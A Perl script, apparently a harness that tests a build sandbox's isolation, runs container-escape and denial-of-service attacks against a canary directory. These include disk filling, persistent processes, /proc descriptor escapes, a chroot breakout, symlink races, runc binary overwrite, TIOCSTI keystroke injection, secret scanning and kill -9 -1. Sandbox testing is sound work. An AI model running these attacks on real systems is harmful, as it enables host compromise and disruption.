# Attacks of one process on all that is outside its root directory, with system calls of x86-64.
# usage: attack.pl NAME CANARY-DIRECTORY. Prints "reached ..." for each that works, "end" at last.
my ($name, $outside) = @ARGV;
$| = 1;

my %attacks = (
  # Forks twice, leaves the session, ignores signals; one of them is another process all the time.
  stay => sub {
    for my $hops (0, 1) {
      next if fork;
      setsid();
      exit if fork;
      $SIG{$_} = 'IGNORE' for qw(HUP INT TERM QUIT CHLD ALRM PIPE);
      open STDOUT, '>', '/dev/null'; open STDERR, '>', '/dev/null';
      while (1) { select undef, undef, undef, 0.005; exit if $hops && fork; }
    }
    select undef, undef, undef, 0.2;
  },

  # Opens 100,000 files in 100 processes, which stay.
  open => sub {
    for (1 .. 100) {
      next if fork;
      my @files;
      for (1 .. 1000) { open my $file, '<', '/etc/passwd' or last; push @files, $file; }
      $SIG{TERM} = 'IGNORE';
      open STDOUT, '>', '/dev/null'; open STDERR, '>', '/dev/null';
      sleep 1000;
    }
    select undef, undef, undef, 0.5;
  },

  # Fills the disk.
  fill => sub {
    open my $file, '>', '/full';
    my $block = 'x' x 65536;
    while (syswrite $file, $block) { }
    unlink '/full';
  },

  # Looks into, traces, limits and signals every other process, those that it can only guess too.
  processes => sub {
    my $text = 'x' x 64;
    my $vector = pack 'PQ', $text, 64;
    my $far = pack 'QQ', 0x400000, 64;
    for my $pid (grep { $_ != $$ } getppid(), 1 .. 100) {
      my %calls = (attach => [101, 16, $pid, 0, 0], seize => [101, 0x4206, $pid, 0, 0],
        read => [310, $pid, $vector, 1, $far, 1, 0], write => [311, $pid, $vector, 1, $far, 1, 0],
        signal => [62, $pid, 0], thread => [234, $pid, $pid, 0], queue => [129, $pid, 0, $text]);
      for (sort keys %calls) {
        my ($number, @args) = @{$calls{$_}};
        print "reached $_ $pid\n" if $pid > 0 && syscall($number, @args) >= 0;
      }
      my $file;
      for (qw(environ maps)) { print "reached $_ of $pid\n" if open($file, '<', "/proc/$pid/$_") && <$file> }
      print "reached the memory of $pid\n" if open $file, '+<', "/proc/$pid/mem";
      for (qw(root cwd)) { print "reached $_ of $pid\n" if -e "/proc/$pid/$_$outside/canary" }
      for my $fd (0 .. 30) { print "reached fd $fd of $pid\n" if -e "/proc/$pid/fd/$fd" }
    }
    # To all processes that may be signalled: only those of the build.
    kill 9, -1;
  },

  # CVE-2024-21626 and its kin: descriptors and links of /proc that lead out.
  proc => sub {
    my $up = '../' x 30 . $outside;
    for my $d (map({ "/proc/self/fd/$_" } 0 .. 40), qw(/proc/self/root /proc/self/cwd /proc/1/root /proc/1/cwd /proc /dev/fd)) {
      print "reached by $d\n" if -e "$d/$up/canary" || -e "$d$outside/canary" || (chdir $d and -e "$up/canary");
      chdir '/';
    }
    for (qw(/proc/sysrq-trigger /proc/sys/kernel/core_pattern /proc/sys/kernel/modprobe /proc/kcore /dev/mem /dev/kmsg
      /sys/kernel/uevent_helper /sys/fs/cgroup/cgroup.procs /sys/fs/cgroup/release_agent)) {
      print "reached $_\n" if open my $file, '+<', $_;
    }
  },

  # The classical way out of chroot, and devices of disks.
  root => sub {
    mkdir '/jail';
    opendir my $here, '/';
    if (chroot '/jail') {
      chdir '..' for 1 .. 40;
      chroot '.';
      print "reached the root\n" if open my $file, '<', "$outside/canary";
      open my $made, '>', "$outside/made";
    }
  },

  # Renames and exchanges directories and links while paths below them are in use.
  race => sub {
    mkdir $_ for qw(/t /t/a /t/d);
    symlink $outside, '/t/b'; symlink '../' x 20 . $outside, '/t/c';
    my @pairs = (['/t/a', '/t/b'], ['/t/d', '/t/c']);
    my $other = fork;
    if (!$other) { while (1) { for (@pairs) { my ($a, $b) = @$_; syscall 316, -100, $a, -100, $b, 2 } } }
    for (1 .. 60) {
      for my $directory ('/t/a', '/t/d') {
        my $path = "$directory/canary"; my $file;
        print "reached by a race\n" if open($file, '<', $path) && (<$file> // '') =~ /precious/;
        open($file, '>', $path) and print $file 'evil';
        chmod 0777, $path; utime 1, 1, $path; truncate $path, 1; mkdir "$directory/new"; symlink 'x', "$directory/link";
        rename $path, "$directory/moved"; unlink $path; rmdir "$directory/new";
      }
    }
    kill 9, $other; wait;
  },

  # CVE-2019-5736: the program that started this one.
  program => sub {
    for (map { "/proc/$_/exe" } 1 .. 100) {
      my ($pid) = /(\d+)/;
      print "reached $_\n" if $pid != $$ && readlink($_) !~ m{/perl$} && open my $file, '>', $_;
    }
  },

  # Calls that reach into the kernel, other namespaces or other processes. Each is harmless here.
  kernel => sub {
    my ($zeros, $name, $type) = ("\0" x 4096, 'none', 'tmpfs');
    mkdir '/point';
    my ($path, $root, $key, $file) = ('/point', '/', 'user', '/acct');
    my %calls = (add_key => [248, $key, $name, $name, 4, -3], request_key => [249, $key, $name, 0, -3], keyctl => [250, 0, -3, 1],
      bpf => [321, 0, pack('L4x32', 2, 4, 4, 1), 48], perf_event_open => [298, pack('LLQx112', 1, 128, 0), 0, -1, -1, 0],
      userfaultfd => [323, 1], io_uring_setup => [425, 1, $zeros], kcmp => [312, $$, getppid(), 0, 0, 0], syslog => [103, 3, $zeros, 4096],
      user_namespace => [272, 0x10000000], mount_namespace => [272, 0x20000], clone => [56, 0x10000000, 0, 0, 0, 0], mount => [165, $name, $path, $type, 0, 0],
      bind => [165, $root, $path, 0, 4096, 0], fsopen => [430, $type, 0], open_tree => [428, -100, $root, 1], pivot_root => [155, $root, $path],
      acct => [163, $file], sethostname => [170, $name, 4], setdomainname => [171, $name, 4], init_module => [175, $zeros, 0, $zeros],
      swapon => [167, $file, 0], fanotify_init => [300, 0, 0], iopl => [172, 3], open_by_handle_at => [304, -100, pack('Llx128', 8, 1), 0],
      alg => [41, 38, 5, 0], vsock => [41, 40, 1, 0], packet => [41, 17, 3, 0], raw => [41, 2, 3, 255]);
    for my $pid (grep { $_ != $$ } getppid(), 1 .. 100) {
      my $handle = syscall 434, $pid, 0;
      next if $handle < 0;
      for my $fd (0 .. 30) { print "reached fd $fd of $pid\n" if syscall(438, $handle, $fd, 0) >= 0 }
      print "reached $pid by its handle\n" if syscall(424, $handle, 0, 0, 0) >= 0;
    }
    for (qw(mnt user pid net)) {
      open my $file, '<', "/proc/1/ns/$_" or next;
      print "reached the namespace $_\n" if syscall(308, fileno $file, 0) >= 0;
    }
    for (sort keys %calls) {
      my ($number, @args) = @{$calls{$_}};
      my $result = syscall $number, @args;
      exit if $_ eq 'clone' && $result == 0;
      print "reached kernel by $_\n" if $result >= 0;
    }
  },

  # UNIX sockets of a process outside, which prints who connects.
  sockets => sub {
    for my $type (1, 2) {
      for my $name ("\0tsbuild:$outside", "$outside/../socket") {
        my $address = pack 'Sa*', 1, $name;
        socket my $socket, 1, $type, 0;
        print "reached a socket\n" if connect $socket, $address;
        socket $socket, 1, 2, 0;
        send $socket, 'reached by a datagram', 0, $address;
        my $vector = pack 'PQ', 'reached by a message', 20;
        my $header = pack 'PLx4PQQQlx4', $address, length $address, $vector, 1, 0, 0, 0;
        syscall 46, fileno $socket, $header, 0;
        syscall 307, fileno $socket, my $many = "$header\0\0\0\0\0\0\0\0", 1, 0;
      }
    }
  },

  # Terminals and disks: the builder's own, and device files that are made for them. TIOCSTI types.
  devices => sub {
    my %made = (tty => [5, 0], console => [5, 1], tty1 => [4, 1], map({ ("pts$_" => [136, $_]) } 0 .. 5), mem => [1, 1], kmsg => [1, 11],
      vda => [254, 0], sda => [8, 0], fuse => [10, 229], kvm => [10, 232]);
    for (sort keys %made) { my ($major, $minor) = @{$made{$_}}; syscall 133, my $path = "/made-$_", 0020666, $major << 8 | $minor }
    for (map({ "/made-$_" } sort keys %made), qw(/dev/tty /dev/console /dev/tty0 /dev/tty1 /dev/vda /dev/sda /dev/mem /dev/fuse /dev/kvm), map { "/dev/pts/$_" } 0 .. 5) {
      # On some rungs a device that was made is an empty file: only what it does counts.
      sysopen my $file, $_, 04402 or next;
      print "reached device $_ by typing\n" if ioctl $file, 0x5412, my $key = 'x';
      $! = 0;
      my $isTerminal = ioctl $file, 0x5413, my $size = '';
      print "reached device $_\n" if $isTerminal || sysread($file, my $bytes, 1) || $! == 11;
    }
    unlink "/made-$_" for keys %made;
  },

  # The secret of an earlier step.
  secret => sub {
    my $secret = 'hush' . '-hush-value';
    my @directories = '/';
    while (defined(my $directory = shift @directories)) {
      opendir my $open, $directory or next;
      for (map { "$directory/$_" } grep { !/^\.\.?$/ } readdir $open) {
        next if m{^//(proc|sys|dev)$};
        push @directories, $_ if -d && !-l;
        next unless -f && !-l && open my $file, '<', $_;
        local $/;
        print "reached the secret in $_\n" if index(<$file> // '', $secret) >= 0;
      }
    }
    print "reached the agent\n" if -e '/run/buildkit/ssh_agent.0';
  },

  # Exchanges a directory of a shared cache and a link to outside, while other steps mount below.
  exchange => sub {
    mkdir '/c/dir'; symlink $outside, '/c/link';
    my ($a, $b) = ('/c/dir', '/c/link');
    for (1 .. 400) { syscall 316, -100, $a, -100, $b, 2; select undef, undef, undef, 0.005 }
  },

  # CVE-2024-23652: a link in the way of the mount point that is removed after the step.
  point => sub { rename '/made', '/moved'; symlink '../' x 20 . $outside, '/made' },
);

sub setsid { syscall 112 }

$attacks{$name}->();
print "end\n";
